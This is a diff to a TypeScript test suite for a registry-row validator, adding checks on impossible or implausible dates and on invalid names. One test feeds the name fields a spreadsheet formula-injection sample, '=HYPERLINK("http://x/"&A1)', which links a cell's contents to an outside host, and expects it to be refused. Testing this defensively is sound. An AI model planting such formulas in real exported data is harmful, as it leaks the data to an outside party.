@@ -102,8 +102,36 @@ describe('a row of a registry', () => {
     });
     expect(document.birthDate).toBe('1987');
     expect(document.photoDates).toEqual(['2013-11-05', '2013-11~', '2013-11/..']);
-    for (const date of ['5/11/13', '2013-13', '2013-02-30', 'winter', '2013-11-05T14:20Z']) {
+    for (const date of ['5/11/13', 'winter', '2013-11-05T14:20Z']) {
       expect(codes({ birth_date: date })).toEqual(['birth_date bad-date']);
+    }
+    for (const date of ['2013-13', '2013-02-30', '31/9/2013']) {
+      expect(codes({ birth_date: date })).toEqual(['birth_date no-such-day']);
+    }
+  });
+
+  it('refuses dates that cannot be, and takes spans that reach into those that can', () => {
+    expect(codes({ birth_date: '1434-07-12' })).toEqual(['birth_date hijri-year']);
+    expect(codes({ birth_date: '12/7/1434' })).toEqual(['birth_date hijri-year']);
+    expect(codes({ died_on: '0213' })).toEqual(['died_on long-ago']);
+    expect(codes({ photo_date: '2999-01-01' })).toEqual(['photo_date in-the-future']);
+    expect(codes({ photo_dates: '2013-05; 3/4/2999' })).toEqual(['photo_dates in-the-future']);
+    expect(good({ photo_dates: '2013/2999' }).document.photoDates).toEqual(['2013/2999']);
+  });
+
+  it('refuses what is no name', () => {
+    for (const [name, code] of [
+      ['+963', 'not-a-name'],
+      ['123', 'not-a-name'],
+      ['@x', 'formula'],
+      ['=HYPERLINK("http://x/"&A1)', 'formula'],
+    ] as const) {
+      expect(codes({ name })).toEqual([`name ${code}`]);
+      expect(codes({ father_name: name })).toEqual([`father_name ${code}`]);
+    }
+    for (const name of ['؟؟؟', '---']) {
+      expect(codes({ name })).toEqual(['name nothing-to-know-by']);
+      expect(good({ mother_name: name }).document.names).not.toHaveProperty('mother');
     }
   });
 
